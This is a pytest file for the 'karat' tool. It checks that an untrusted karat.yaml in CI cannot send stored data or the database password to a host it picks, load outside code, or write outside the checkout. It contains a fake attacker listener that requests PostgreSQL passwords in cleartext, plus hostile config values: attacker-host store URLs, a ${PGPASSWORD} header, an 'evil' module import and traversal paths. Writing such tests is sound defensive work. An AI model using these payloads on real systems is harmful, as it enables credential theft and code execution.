"""In CI, and of other people's files, karat.yaml may not send what is saved to a place of its own choice."""

from __future__ import annotations

import os
import socket
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from karat.errors import KaratError
from karat.settings import load_config

Command = Callable[..., tuple[int, str, str]]
Refuses = Callable[..., KaratError]
RUN = '{"query_id": "q1", "topk": ["a", "b"]}\n{"query_id": "q2", "topk": ["c"]}\n'
GOLD = '{"query_id": "q1", "gold": ["a"]}\n{"query_id": "q2", "gold": ["d"]}\n'
EVAL = ("eval", "run.jsonl", "--gold", "gold.jsonl")
GATE = ("gate", "run.jsonl", "--gold", "gold.jsonl", "--gate", "recall@5 >= 0.1")


@pytest.fixture(autouse=True)
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A checkout, in CI."""
    for name in ("KARAT_STORE", "KARAT_BRANCH"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("CI", "true")
    monkeypatch.setenv("PGPASSWORD", "hunter2-hunter2")
    folder = tmp_path / "repo"
    folder.mkdir()
    monkeypatch.chdir(folder)
    Path("run.jsonl").write_text(RUN)
    Path("gold.jsonl").write_text(GOLD)
    return folder


class Listener:
    """A host of the attacker's choice: counts who comes, and asks for the password in the clear."""

    def __init__(self) -> None:
        self.heard = b""
        self.calls = 0
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            self.calls += 1
            with connection:
                connection.settimeout(30)
                if connection.recv(4096).startswith((b"GET", b"POST")):  # a search, not a database
                    connection.sendall(b"HTTP/1.1 400 no\r\nContent-Length: 0\r\n\r\n")
                    continue
                connection.sendall(b"R\x00\x00\x00\x08\x00\x00\x00\x03")  # the password, please, as it is
                self.heard += connection.recv(4096)

    def close(self) -> None:
        self._socket.close()


@pytest.fixture
def attacker() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.close()


def configure(store: str, folder: Path = Path()) -> None:
    (folder / "karat.yaml").write_text(f"store: {store}\nsave: true\n")


@pytest.mark.parametrize(
    "call",
    [
        EVAL,
        GATE,
        (*EVAL, "--tag", "x"),
        ("history", "list"),
        (*GATE, "--baseline", "history:main"),
        ("history", "push", "http://x"),
    ],
)
@pytest.mark.parametrize("scheme", ["postgresql", "POSTGRES", "postgresql+psycopg"])
def test_a_pull_request_does_not_get_the_password(
    attacker: Listener, call: tuple[str, ...], scheme: str, karat_refuses: Refuses
) -> None:
    configure(f"{scheme}://me@127.0.0.1:{attacker.port}/db?sslmode=disable&gssencmode=disable")
    error = karat_refuses(*call)
    assert (error.code, error.field) == ("untrusted-config", "store")
    assert str(error.file).endswith("karat.yaml")
    assert (attacker.calls, attacker.heard) == (0, b"")


def test_the_attack_is_real_where_it_is_allowed(attacker: Listener, karat_refuses: Refuses) -> None:
    """Else the tests above would hold for any reason."""
    configure(f"postgresql://me@127.0.0.1:{attacker.port}/db?sslmode=disable&gssencmode=disable")
    assert karat_refuses(*EVAL, "--trust-config").code != "untrusted-config"
    assert b"hunter2-hunter2" in attacker.heard


@pytest.mark.parametrize("place", ["before", "after"])
def test_the_flag_stands_before_or_after_the_command(place: str, tmp_path: Path, karat_command: Command) -> None:
    configure("../outside")
    flag = "--trust-config"
    code, _, err = karat_command(*((flag, *EVAL) if place == "before" else (*EVAL, flag)))
    assert code == 0, err
    assert (tmp_path / "outside").is_dir()
    assert karat_command(*EVAL)[0] == 2, "it holds for one call"


@pytest.mark.parametrize("store", ["../outside", "/tmp/../{outside}", "link"])
def test_a_folder_elsewhere_needs_the_flag(store: str, tmp_path: Path, karat_refuses: Refuses) -> None:
    (tmp_path / "elsewhere").mkdir()
    Path("link").symlink_to(tmp_path / "elsewhere")
    configure(store.replace("{outside}", str(tmp_path / "outside").lstrip("/")))
    assert karat_refuses(*EVAL).code == "untrusted-config"
    assert not (tmp_path / "outside").exists()
    assert list((tmp_path / "elsewhere").iterdir()) == []


@pytest.mark.parametrize("store", ["history", "./a/b", ".karat", "."])
def test_a_folder_below_needs_none(store: str, karat_command: Command) -> None:
    configure(store)
    assert karat_command(*EVAL)[0] == 0
    assert (Path(store) / "history.db").is_file()


def test_what_the_user_says_needs_none(tmp_path: Path, karat_command: Command, monkeypatch: pytest.MonkeyPatch) -> None:
    configure("postgresql://me@127.0.0.1:1/db")
    assert karat_command("history", "list", "--store", str(tmp_path / "mine"))[0] == 2  # not there, and looked for
    monkeypatch.setenv("KARAT_STORE", str(tmp_path / "mine"))
    assert karat_command(*EVAL)[0] == 0
    assert (tmp_path / "mine" / "history.db").is_file()


def test_who_saves_nothing_needs_none(karat_command: Command) -> None:
    configure("postgresql://me@127.0.0.1:1/db")
    assert karat_command(*EVAL, "--no-save")[0] == 0


def test_at_home_ones_own_file_is_trusted(
    tmp_path: Path, karat_command: Command, monkeypatch: pytest.MonkeyPatch
) -> None:
    configure("../outside")
    monkeypatch.delenv("CI")
    assert karat_command(*EVAL)[0] == 0
    assert (tmp_path / "outside").is_dir()


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="only root can give a file away")
def test_a_file_of_somebody_else_is_not_trusted(karat_refuses: Refuses, monkeypatch: pytest.MonkeyPatch) -> None:
    configure("../outside")
    monkeypatch.delenv("CI")
    os.chown("karat.yaml", 4242, 4242)
    assert karat_refuses(*EVAL).code == "untrusted-config"
    configure("history")
    os.chown("karat.yaml", 4242, 4242)
    assert load_config().store is not None


def test_an_empty_ci_is_none(tmp_path: Path, karat_command: Command, monkeypatch: pytest.MonkeyPatch) -> None:
    configure("../outside")
    monkeypatch.setenv("CI", "")
    assert karat_command(*EVAL)[0] == 0


CORPUS = '{"id": "a", "text": "how long does it take"}\n'
QUERIES = '{"query_id": "q1", "query": "how long?", "gold": ["a"]}\n'
RUN_IT = ("run", "bm25", "-q", "queries.jsonl", "--corpus", "corpus.jsonl", "--overwrite", "--max-errors", "0")
ALL = ("run", *RUN_IT[2:])


def list_retrievers(text: str) -> None:
    Path("karat.yaml").write_text(f"retrievers:\n  chance: random\n  bm25: {text}\n")
    Path("corpus.jsonl").write_text(CORPUS)
    Path("queries.jsonl").write_text(QUERIES)


@pytest.mark.parametrize("call", [RUN_IT, ALL], ids=["by name", "all"])
@pytest.mark.parametrize(
    "named",
    [
        "dense(x, url=http://127.0.0.1:{port}, key=PGPASSWORD)",
        "hybrid(random, http://127.0.0.1:{port}/search)",
        "{{retriever: 'http://127.0.0.1:{port}/search', headers: {{X: '${{PGPASSWORD}}'}}}}",
        "search.yaml",
        "evil:search",
        "rerank(random, evil:score)",
        "dense(evil)",
    ],
)
def test_a_pull_request_names_no_code_and_no_server(
    attacker: Listener, call: tuple[str, ...], named: str, karat_refuses: Refuses
) -> None:
    """Not even under the name of a retriever of Karat's own, which the workflow asks for."""
    list_retrievers(named.format(port=attacker.port))
    Path("search.yaml").write_text(f"retriever: http://127.0.0.1:{attacker.port}/search\n")
    Path("evil.py").write_text("open('hacked', 'w')\n")
    error = karat_refuses(*call)
    assert (error.code, error.field) == ("untrusted-config", "retrievers.bm25")
    assert (attacker.calls, Path("hacked").exists()) == (0, False)


def test_that_attack_is_real_too(attacker: Listener, karat_refuses: Refuses) -> None:
    list_retrievers(f"hybrid(random, http://127.0.0.1:{attacker.port}/search)")
    assert karat_refuses(*RUN_IT, "--trust-config").code != "untrusted-config"
    assert attacker.calls


def test_retrievers_of_karats_own_need_no_trust(karat_command: Command) -> None:
    list_retrievers("hybrid(bm25(k1=1.2), random)")
    code, _, err = karat_command(*RUN_IT)
    assert code == 0, err


def test_what_karat_yaml_lists_is_nothing_to_who_names_another(karat_command: Command) -> None:
    list_retrievers("evil:search")
    assert karat_command("run", "random", *RUN_IT[2:])[0] == 0
